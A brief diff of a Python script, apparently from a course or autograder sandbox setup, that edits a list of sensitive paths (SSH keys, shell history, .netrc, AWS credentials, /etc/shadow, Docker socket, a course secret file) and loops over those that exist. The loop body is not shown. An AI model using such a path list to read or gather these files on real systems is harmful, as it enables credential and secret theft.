@@ -6,7 +6,7 @@ import os
 _names = (".ssh", ".bash_history", ".netrc", ".gitconfig", ".aws", ".jupyter", ".config", ".cache")
 _wanted = [f"{home}/{name}" for home in ("/root", *glob.glob("/home/*")) for name in _names]
 _wanted += ["/etc/shadow", "/etc/gshadow", "/etc/machine-id", "/run/secrets", "/var/log", "/etc/ssh",
-            "/var/run/docker.sock", "@COURSE@/secret.txt", os.path.expanduser("~root")]
+            "/var/run/docker.sock", "@COURSE@/secret.txt", os.path.expanduser("~root/.profile")]
 for _path in _wanted:
     if _path in (".", "..") or not os.path.exists(_path):
         continue
